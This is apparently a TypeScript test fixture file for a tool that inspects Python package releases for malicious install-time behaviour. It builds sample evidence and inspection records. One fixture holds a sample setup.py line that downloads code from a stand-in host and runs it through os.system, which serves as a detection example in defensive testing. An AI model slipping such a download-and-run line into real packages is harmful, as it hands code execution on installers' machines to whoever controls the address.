import type { Evidence, Inspection, ReleaseInspection } from '../../../server/src/inspect/inspection.ts';
import { ruleSet } from '../../../server/src/inspect/inspection.ts';
import { verdictOf } from '../../../server/src/inspect/verdict.ts';
import { now } from './rule-input.ts';

/** One thing found, in words that say nothing of any real rule. */
export function found(given: Partial<Evidence> = {}): Evidence {
  return {
    rule: 'download-run',
    file: 'setup.py',
    line: 2,
    text: 'os.system(download("https://payload.example.invalid"))',
    why: 'Whoever has that address decides what runs.',
    weight: 0.95,
    when: 'install',
    ...given,
  };
}

export function inspection(given: Partial<Inspection> = {}): Inspection {
  const evidence = given.evidence ?? [];
  return {
    file: 'acme-1.0.tar.gz',
    sha256: 'a'.repeat(64),
    integrity: 'verified',
    verdict: verdictOf(evidence, true),
    evidence,
    limits: [],
    members: 4,
    pythonFiles: 2,
    pythonBytes: 200,
    profile: [],
    ruleSet,
    ...given,
  };
}

/** A release with these files looked into, and so many others that were not. */
export function inspected(
  inspections: readonly Inspection[],
  others: readonly (string | null)[] = [],
  version = '1.0',
): ReleaseInspection {
  return {
    version,
    files: [
      ...inspections.map((each) => ({ filename: each.file, inspection: each, failed: null })),
      ...others.map((failed, at) => ({
        filename: `acme-${version}-cp3${at}-any.whl`,
        inspection: null,
        failed,
      })),
    ],
    at: now - 180_000,
  };
}
